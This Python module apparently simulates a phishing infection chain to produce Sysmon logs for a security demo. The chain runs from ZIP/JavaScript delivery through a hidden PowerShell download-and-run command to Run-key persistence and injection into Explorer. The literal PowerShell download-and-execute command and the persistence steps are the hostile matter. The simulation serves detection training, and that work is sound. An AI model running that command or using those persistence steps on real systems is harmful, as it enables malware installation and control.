"""The infection of two of the demo's computers, hop by hop.

A link in a mail, a ZIP with a JavaScript in it, a command line that lets PowerShell
download a program, and what that program then does. All hops are in their logs, each as
Sysmon writes it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

from app.demo.desk import Desk
from app.demo.images import Image
from app.demo.office import MINUTE, PROXY, SECOND, Process, at
from app.demo.work import download, open_browser, visit

DOMAIN_NAME: Final = "fgyt.shadidphotography.com"
PAYLOAD: Final = "TempNcF88.eXe"

#: What the script runs. No backslash stands behind %TEMP%, so the file lands beside that folder.
_COMMAND: Final = (
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden"
    f" (New-Object System.Net.WebClient).DownloadFile('http://{DOMAIN_NAME}/docs/flash.php',"
    f"'%TEMP%{PAYLOAD[4:]}'); cmd /c %TEMP%{PAYLOAD[4:]}"
)

PAYLOAD_PATH: Final = r"{home}\AppData\Local" + "\\" + PAYLOAD


@dataclass(frozen=True, slots=True)
class Plan:
    """When one computer is infected, and how its hops differ from the other's."""

    begins: int
    token: int
    archive: str
    library: str


PLANS: Final = {
    "Win7_64JP_01": Plan(at("08 01:32:07.318"), 0x004D31C6, "Delivery_20190108_7731", "apidsvc.dll"),
    "Win10_64JP_04": Plan(at("08 02:14:41.902"), 0x0091B20E, "Delivery_20190108_8045", "dpnhcore.dll"),
}

#: From the click on the link to the start of the program.
UNTIL_PAYLOAD: Final = 96 * SECOND


def infect(desk: Desk, plan: Plan) -> Process:
    """Let it happen; return the process of the payload."""
    browser = _follow_link(desk, plan)
    download(desk, browser, plan.begins + 9 * SECOND, f"{plan.archive}.zip", host=_site(plan))
    command = _run_script(desk, plan)
    return _take_hold(desk, command, plan)


def _site(plan: Plan) -> str:
    return f"parcel-{plan.archive[-4:]}.example.net"


def _follow_link(desk: Desk, plan: Plan) -> Process:
    address = f"http://{_site(plan)}/track/{plan.archive}.zip"
    browser = open_browser(desk, desk.mail, plan.begins, lasts=19 * MINUTE, address=address)
    visit(desk, browser, plan.begins + 3 * SECOND, _site(plan))
    desk.machine.via_proxy(browser, plan.begins + 7 * SECOND)
    return browser


def _run_script(desk: Desk, plan: Plan) -> Process:
    """Open the archive and the script in it; return the cmd that will start the payload."""
    machine, explorer, time = desk.machine, desk.explorer, plan.begins + 58 * SECOND
    home = machine.computer.home
    script = rf"{home}\AppData\Local\Temp\Temp1_{plan.archive}.zip\{plan.archive}.js"
    machine.load(explorer, Image(r"C:\Windows\System32\zipfldr.dll", "圧縮フォルダー"), time - 3 * SECOND)
    machine.write(explorer, time, script)
    host = machine.start(
        "wscript",
        explorer,
        time + SECOND,
        arguments=f'"{script}"',
        lasts=29 * SECOND,
        share_of_libraries=1.0,
        directory=script.rpartition("\\")[0] + "\\",
    )
    shell = machine.start(
        "cmd",
        host,
        time + 3 * SECOND,
        command_line=rf'"C:\Windows\System32\cmd.exe" /c "{_COMMAND}"',
        lasts=37 * SECOND,
        directory=home + "\\",
    )
    return _download(desk, shell, time + 4 * SECOND)


def _download(desk: Desk, shell: Process, time: int) -> Process:
    machine, home = desk.machine, desk.machine.computer.home
    temp = rf"{home}\AppData\Local\Temp"
    path = PAYLOAD_PATH.format(home=home)
    powershell = machine.start(
        "powershell",
        shell,
        time,
        command_line=_COMMAND.replace("%TEMP%", temp),
        lasts=35 * SECOND,
        share_of_libraries=1.0,
        directory=home + "\\",
    )
    policy = rf"{temp}\__PSScriptPolicyTest_{machine.dice.letters(8)}.{machine.dice.letters(3)}.ps1"
    machine.pipe(powershell, time + 2 * SECOND, r"\PSHost.131913930891734560.DefaultAppDomain.powershell")
    machine.write(powershell, time + 2_400_000, policy)
    machine.resolve(powershell, time + 9 * SECOND, "proxy.example.co.jp", PROXY)
    machine.via_proxy(powershell, time + 9_400_000)
    machine.write(powershell, time + 14 * SECOND, path)
    machine.happen(29, time + 15 * SECOND, powershell, target_filename=path, hashes=payload(desk).hashes)
    return machine.start(
        "cmd",
        powershell,
        time + 32 * SECOND,
        command_line=rf'"C:\Windows\System32\cmd.exe" /c {path}',
        lasts=6 * SECOND,
        directory=home + "\\",
    )


def payload(desk: Desk) -> Image:
    """Return the downloaded program; it calls itself something else."""
    path = PAYLOAD_PATH.format(home=desk.machine.computer.home)
    return Image(path, "Photo Viewer", "Photo Viewer", "Shadid", "1.0.0.7", "BGN")


def _take_hold(desk: Desk, command: Process, plan: Plan) -> Process:
    """Start the payload: it looks around, copies itself, makes itself permanent, goes into Explorer."""
    machine, home = desk.machine, desk.machine.computer.home
    time = plan.begins + UNTIL_PAYLOAD
    path = PAYLOAD_PATH.format(home=home)
    program = machine.start(
        payload(desk),
        command,
        time,
        command_line=path,
        token=plan.token,
        lasts=74 * SECOND,
        share_of_libraries=1.0,
        directory=home + "\\",
    )
    folder = rf"{home}\AppData\Roaming\Microsoft\{plan.library.partition('.')[0]}"
    report = rf"{home}\AppData\Local\Temp\{machine.dice.hexadecimal(4)}.bin"
    shell = machine.start(
        "cmd",
        program,
        time + 4 * SECOND,
        command_line=f'cmd /C "systeminfo.exe > {report}"',
        lasts=14 * SECOND,
        directory=home + "\\",
    )
    machine.start("systeminfo", shell, time + 5 * SECOND, command_line="systeminfo.exe", lasts=11 * SECOND)
    machine.write(shell, time + 4_200_000, report)
    machine.write(program, time + 21 * SECOND, rf"{folder}\{plan.library}")
    machine.write(program, time + 21_400_000, rf"{folder}\{plan.library.partition('.')[0]}.exe")
    machine.set_value(
        program,
        time + 23 * SECOND,
        rf"HKU\{desk.account.sid}\Software\Microsoft\Windows\CurrentVersion\Run\{plan.library.partition('.')[0]}",
        rf'rundll32.exe "{folder}\{plan.library}",DllRegisterServer',
        rule="technique_id=T1060,technique_name=Registry Run Keys / Start Folder",
    )
    _load_library(desk, program, rf"{folder}\{plan.library}", time + 26 * SECOND)
    machine.access(program, desk.explorer, time + 30 * SECOND, "0x1f3fff")
    machine.happen(
        8,
        time + 30_100_000,
        program,
        desk.explorer,
        new_thread_id=machine.dice.between(100, 2500) * 4,
        start_address="0x0000000003A40000",
    )
    for call in range(9):
        machine.via_proxy(desk.explorer, time + (2 + 10 * call) * MINUTE + machine.dice.between(0, 3_000_000))
    return program


def _load_library(desk: Desk, program: Process, library: str, time: int) -> None:
    machine = desk.machine
    host = machine.start(
        "rundll32",
        program,
        time,
        command_line=f'rundll32.exe "{library}",DllRegisterServer',
        lasts=40 * SECOND,
    )
    machine.load(host, Image(library, file_version="1.0.0.7"), time + 300_000, signed=False)
